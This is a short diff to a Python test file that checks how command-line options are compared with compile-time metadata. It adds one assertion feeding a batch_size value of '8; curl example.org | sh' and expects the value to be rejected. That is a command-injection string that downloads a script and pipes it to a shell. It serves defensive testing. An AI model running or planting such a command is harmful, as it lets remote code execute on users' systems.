@@ -53,6 +53,7 @@ def test_what_must_agree_is_told_and_all_that_changed_is_a_likely_cause(told: Te
         "--hidden was 32 at the compile, and is 16)"
     )
     assert as_compiled(typed, METADATA) == "--batch-size 8"
+    assert as_compiled(typed, {**METADATA, "batch_size": "8; curl example.org | sh"}) is None
 
 
 @pytest.mark.parametrize("typed", ["run --reduce-on-rdu --threads 1 --hidden 16", "measure-sections --hidden 16"])
